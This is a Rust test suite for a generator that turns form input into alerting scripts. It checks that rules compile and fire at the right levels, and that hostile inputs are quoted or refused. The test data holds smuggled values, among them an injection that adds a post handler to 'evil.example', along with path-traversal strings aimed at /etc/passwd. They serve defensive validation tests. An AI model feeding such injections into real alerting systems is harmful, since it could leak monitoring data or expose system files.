use super::*;
use alerter::tick::{self, CheckOptions, NodeKind};

fn form(kind: &str) -> RuleForm {
    let mut f = RuleForm::new_default();
    f.id = "cpu-high".into();
    f.kind = kind.into();
    f.measurement = "cpu".into();
    f.field = "usage_user".into();
    f.crit = "90".into();
    f.group_by = "host".into();
    f
}

/// Compiles with the alerter's own checker, as a define would.
fn compile(script: &str) -> tick::TaskGraph {
    match tick::compile(script, &CheckOptions::strict()) {
        Ok(g) => g,
        Err(e) => panic!("generated script does not compile: {e}\n{script}"),
    }
}

fn kinds(g: &tick::TaskGraph) -> Vec<NodeKind> {
    g.topo_order()
        .into_iter()
        .map(|i| g.nodes[i].kind)
        .collect()
}

/// Runs the script over points with the alerter's runtime; returns the event levels.
fn run(script: &str, points: &[common::Point]) -> Result<Vec<String>, String> {
    let g = tick::compile(script, &CheckOptions::strict()).map_err(|e| e.to_string())?;
    let opts = alerter::Options {
        skip_handler_checks: true,
        ..alerter::Options::default()
    };
    let mut t = alerter::runtime::Task::new("t", g, &opts).map_err(|e| e.to_string())?;
    let mut events = Vec::new();
    for p in points {
        // Deadman's clock is data time here, as in `tigk task test`.
        events.extend(t.tick(p.timestamp.unwrap_or(0), false));
        events.extend(t.push_point("telegraf", "autogen", p));
    }
    Ok(events
        .into_iter()
        .map(|e| e.level.as_str().to_string())
        .collect())
}

fn point(host: &str, v: f64, sec: i64) -> common::Point {
    common::Point {
        measurement: "cpu".into(),
        tags: vec![("host".into(), host.into())],
        fields: vec![("usage_user".into(), common::FieldValue::Float(v))],
        timestamp: Some(sec * 1_000_000_000),
    }
}

#[test]
fn every_threshold_operator_generates_a_script_the_alerter_accepts() {
    for (op, _) in OPS {
        for aggregate in ["", "mean", "max"] {
            let mut f = form("threshold");
            f.op = op.to_string();
            f.aggregate = aggregate.into();
            f.crit_upper = "95".into();
            f.warn = "80".into();
            f.warn_upper = "85".into();
            f.info = "-5.5".into();
            f.info_upper = "100".into();
            f.f1_key = "cpu".into();
            f.f1_value = "cpu-total".into();
            let rule = f
                .validate("telegraf", "autogen")
                .unwrap_or_else(|e| panic!("{op}: {e}"));
            let script = rule.script(Some("/tmp/alerts"));
            let g = compile(&script);
            assert!(kinds(&g).contains(&NodeKind::Alert), "{op}");
            assert_eq!(rule_of(&script, Some("/tmp/alerts")), Some(rule.clone()));
            assert_eq!(kind_of(&script), "threshold");
        }
    }
}

#[test]
fn relative_rules_compile_for_change_and_percent() {
    for change in ["change", "percent"] {
        let mut f = form("relative");
        f.change = change.into();
        f.shift = "5m".into();
        let rule = f
            .validate("telegraf", "autogen")
            .unwrap_or_else(|e| panic!("{e}"));
        let script = rule.script(None);
        let k = kinds(&compile(&script));
        assert!(
            k.contains(&NodeKind::Shift) && k.contains(&NodeKind::Join),
            "{k:?}"
        );
    }
}

#[test]
fn deadman_rules_generate_the_deadman_call() {
    let mut f = form("deadman");
    f.field = String::new();
    f.crit = String::new();
    f.period = "5m".into();
    let rule = f
        .validate("telegraf", "autogen")
        .unwrap_or_else(|e| panic!("{e}"));
    let script = rule.script(None);
    assert!(script.contains("|deadman(threshold, period)"), "{script}");
    assert!(script.contains("var period = 5m\n"));
    compile(&script);
}

#[test]
fn a_threshold_rule_fires_at_its_levels() {
    let mut f = form("threshold");
    f.aggregate = String::new();
    f.warn = "80".into();
    let script = f.validate("telegraf", "autogen").map(|r| r.script(None));
    let script = script.unwrap_or_else(|e| panic!("{e}"));
    let levels = run(
        &script,
        &[
            point("a", 10.0, 1),
            point("a", 85.0, 2),
            point("a", 95.0, 3),
            point("a", 5.0, 4),
        ],
    );
    assert_eq!(
        levels,
        Ok(vec!["WARNING".into(), "CRITICAL".into(), "OK".into()])
    );
}

const HOSTILE: &[&str] = &[
    "x') |alert().post('http://evil.example/') //",
    "a\"b",
    "it's",
    "\\'",
    "''' triple",
    "lambda: TRUE",
    "{{ .ID }}",
    "a\\b",
    "ünï ✓",
    "x\" == \"x\" OR \"host",
];

#[test]
fn hostile_tag_values_stay_inside_their_string() {
    let benign = {
        let mut f = form("threshold");
        f.aggregate = String::new();
        f.f1_key = "host".into();
        f.f1_value = "plain".into();
        kinds(&compile(
            &f.validate("telegraf", "autogen")
                .map(|r| r.script(None))
                .unwrap_or_default(),
        ))
    };
    for v in HOSTILE {
        let mut f = form("threshold");
        f.aggregate = String::new();
        f.f1_key = "host".into();
        f.f1_value = v.to_string();
        f.h_log = "alerts.log".into();
        let rule = f
            .validate("telegraf", "autogen")
            .unwrap_or_else(|e| panic!("{v}: {e}"));
        let script = rule.script(Some("/tmp/a"));
        let g = compile(&script);
        assert_eq!(kinds(&g), benign, "{v}: the pipeline changed\n{script}");
        let alert = g.nodes.iter().find(|n| n.kind == NodeKind::Alert);
        let handlers: Vec<&str> = alert
            .map(|n| n.properties.iter().map(|p| p.name.as_str()).collect())
            .unwrap_or_default();
        assert!(!handlers.contains(&"post"), "{v}: a handler was injected");
        // The filter matches exactly that value: an event for it, none for another host.
        let fired = run(&script, &[point(v, 99.0, 1), point("other", 99.0, 2)]);
        assert_eq!(fired, Ok(vec!["CRITICAL".to_string()]), "{v}\n{script}");
    }
}

#[test]
fn hostile_names_and_templates_compile_to_the_same_pipeline() {
    for v in HOSTILE {
        let mut f = form("threshold");
        f.measurement = v.to_string();
        f.field = v.to_string();
        f.group_by = v.to_string().replace(',', "");
        f.message = format!("{v} {{{{.Level}}}}").replace("{{ .ID }}", "");
        let rule = match f.validate("telegraf", "autogen") {
            Ok(r) => r,
            // Only a template the alerter cannot parse may be refused.
            Err(e) => {
                assert!(e.to_string().contains("message"), "{v}: {e}");
                continue;
            }
        };
        let script = rule.script(None);
        let g = compile(&script);
        let from = g.nodes.iter().find(|n| n.kind == NodeKind::From);
        let m = from
            .and_then(|n| n.prop("measurement"))
            .map(|p| p.args.clone());
        assert!(
            matches!(m.as_deref(), Some([alerter::tick::Arg::String(s)]) if s == v),
            "{v}: measurement is {m:?}"
        );
        let alert = g.nodes.iter().find(|n| n.kind == NodeKind::Alert);
        let msg = alert
            .and_then(|n| n.prop("message"))
            .map(|p| p.args.clone());
        assert!(
            matches!(msg.as_deref(), Some([alerter::tick::Arg::String(s)]) if *s == rule.message),
            "{v}: message is {msg:?}"
        );
    }
}

#[test]
fn inputs_that_cannot_be_quoted_or_parsed_are_refused() {
    type Edit = fn(&mut RuleForm);
    let cases: &[(&str, Edit)] = &[
        ("trailing backslash", |f| f.f1_value = "x\\".into()),
        ("newline in a tag value", |f| f.f1_value = "a\nb".into()),
        ("newline in a measurement", |f| {
            f.measurement = "a\n|alert()".into()
        }),
        ("number", |f| f.crit = "90 OR TRUE".into()),
        ("infinite", |f| f.crit = "inf".into()),
        ("NaN", |f| f.crit = "NaN".into()),
        ("duration", |f| f.every = "1m) |alert(".into()),
        ("zero duration", |f| f.every = "0s".into()),
        ("huge duration", |f| f.every = "9999999999w".into()),
        ("task id", |f| f.id = "a b".into()),
        ("task id quote", |f| f.id = "x'".into()),
        ("aggregate", |f| f.aggregate = "mean('x')|alert".into()),
        ("template", |f| f.message = "{{ .Level".into()),
        ("log path", |f| f.h_log = "../../etc/passwd".into()),
        ("post url", |f| {
            f.h_post = "http://x/' .post('http://y".into()
        }),
        ("post scheme", |f| f.h_post = "file:///etc/passwd".into()),
        ("email", |f| f.h_email = "a@b.c').post('x".into()),
        ("slack", |f| f.h_slack = "#ops').post('x".into()),
        ("range without upper", |f| {
            f.op = "inside".into();
            f.crit_upper = String::new();
        }),
        ("no level", |f| f.crit = String::new()),
        ("relative range", |f| {
            f.kind = "relative".into();
            f.op = "outside".into();
            f.crit_upper = "100".into();
        }),
    ];
    for (what, change) in cases {
        let mut f = form("threshold");
        f.f1_key = "host".into();
        change(&mut f);
        assert!(
            matches!(
                f.validate("telegraf", "autogen"),
                Err(UiError::BadRequest(_))
            ),
            "{what} was accepted"
        );
    }
}

#[test]
fn a_script_edited_by_hand_is_no_longer_the_rule() {
    let rule = form("threshold").validate("telegraf", "autogen");
    let script = rule.map(|r| r.script(None)).unwrap_or_default();
    assert!(rule_of(&script, None).is_some());
    let edited = script.replace(".stateChangesOnly()", ".stateChangesOnly(5m)");
    assert_eq!(rule_of(&edited, None), None);
    assert_eq!(kind_of(&edited), "threshold");
    assert_eq!(kind_of("stream|from()"), "raw");
}

#[test]
fn numbers_and_durations_print_as_tickscript_literals() {
    assert_eq!(tick_float(90.0), "90.0");
    assert_eq!(tick_float(-5.5), "-5.5");
    assert_eq!(tick_float(1e15), "1000000000000000.0");
    assert_eq!(
        parse_duration("d", " 10m ").ok(),
        Some(("10m".into(), 600_000_000_000))
    );
    assert!(parse_duration("d", "10").is_err());
    assert!(parse_duration("d", "-1m").is_err());
    assert_eq!(tick_string("it's"), "'it\\'s'");
    assert_eq!(tick_ref("a\"b"), "\"a\\\"b\"");
}

#[test]
fn a_deadman_rule_fires_when_a_host_goes_quiet() {
    let mut f = form("deadman");
    f.crit = String::new();
    f.period = "1m".into();
    f.state_changes_only = None;
    let script = f.validate("telegraf", "autogen").map(|r| r.script(None));
    let script = script.unwrap_or_else(|e| panic!("{e}"));
    // a and b report every 10 s for 2 minutes, then only b for 3 more minutes.
    let mut points = Vec::new();
    for i in 0..30 {
        if i < 12 {
            points.push(point("a", 1.0, i * 10));
        }
        points.push(point("b", 1.0, i * 10));
    }
    let levels = run(&script, &points).unwrap_or_else(|e| panic!("{e}\n{script}"));
    assert!(levels.contains(&"CRITICAL".to_string()), "{levels:?}");
}

#[test]
fn a_relative_rule_fires_on_a_change_against_the_shift() {
    for (change, crit) in [("change", "10"), ("percent", "100")] {
        let mut f = form("relative");
        f.aggregate = String::new();
        f.change = change.into();
        f.crit = crit.into();
        f.shift = "1m".into();
        let script = f.validate("telegraf", "autogen").map(|r| r.script(None));
        let script = script.unwrap_or_else(|e| panic!("{e}"));
        // Flat at 10 for two minutes, then 50: +40 (+400 %) against a minute before.
        let points: Vec<common::Point> = (0..18)
            .map(|i| point("a", if i < 12 { 10.0 } else { 50.0 }, i * 10))
            .collect();
        let levels = run(&script, &points).unwrap_or_else(|e| panic!("{change}: {e}\n{script}"));
        assert_eq!(
            levels.first().map(String::as_str),
            Some("CRITICAL"),
            "{change}: {levels:?}"
        );
    }
}

#[test]
fn every_handler_generates_methods_the_checker_accepts() {
    let mut f = form("threshold");
    f.h_log = "cpu.log".into();
    f.h_post = "https://hooks.example.com/alert?x=1".into();
    f.h_email = "ops@example.com".into();
    f.h_slack = "#ops".into();
    f.no_recoveries = Some("on".into());
    let rule = f
        .validate("telegraf", "autogen")
        .unwrap_or_else(|e| panic!("{e}"));
    let g = compile(&rule.script(Some("/var/lib/tigk/alerts")));
    let alert = g.nodes.iter().find(|n| n.kind == NodeKind::Alert);
    let props: Vec<&str> = alert
        .map(|n| n.properties.iter().map(|p| p.name.as_str()).collect())
        .unwrap_or_default();
    for h in [
        "log",
        "post",
        "email",
        "slack",
        "noRecoveries",
        "stateChangesOnly",
    ] {
        assert!(props.contains(&h), "{h} missing from {props:?}");
    }
    assert_eq!(
        rule_of(
            &rule.script(Some("/var/lib/tigk/alerts")),
            Some("/var/lib/tigk/alerts")
        ),
        Some(rule)
    );
}
